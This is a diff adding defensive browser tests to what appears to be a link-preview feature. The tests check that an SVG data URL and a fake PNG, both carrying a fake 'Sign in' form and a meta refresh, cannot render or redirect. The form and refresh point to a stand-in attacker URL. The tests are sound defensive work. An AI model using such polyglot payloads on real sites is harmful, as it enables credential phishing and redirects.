@@ -200,6 +200,31 @@ describe("a page that a link leads to", () => {
   })
 })
 
+describe("a copy's picture", () => {
+  const form = () => `<form action="${attackerUrl}/form"><input><button>Sign in</button></form>
+    <meta http-equiv="refresh" content="0;url=${attackerUrl}/refresh">`
+  const dataUrl = (type: string, content: string) =>
+    `data:image/${type};base64,${Buffer.from(content, "latin1").toString("base64")}`
+
+  it("can't be a document", async () => {
+    const { client } = await senderAt("/board", "")
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${form()}</foreignObject></svg>`
+    const answer = await linkBy(client, "publish with", dataUrl("svg+xml", svg))
+    expect(answer).toContain("the preview must be a png, webp or jpeg")
+  })
+
+  it("can't act as one under a picture's name", async () => {
+    const { client } = await senderAt("/board", "")
+    const picture = dataUrl("png", `\x89PNG\r\n\x1A\n\0\0\0\r<html><body>${form()}`.padEnd(600))
+    const link = await linkBy(client, "publish with", picture)
+    const { page } = await openPage(browser, link)
+    await page.waitForTimeout(300)
+    expect(await page.locator("form, input").count()).toBe(0)
+    expect({ reached, url: page.url() }).toEqual({ reached: [], url: link })
+    await page.close()
+  })
+})
+
 describe("BokehJS in a page that a link leads to", () => {
   it("[A5] shows all that it shows elsewhere, without code of the document's", async () => {
     const own = await openPage(browser, `${worker.url}/everything`)
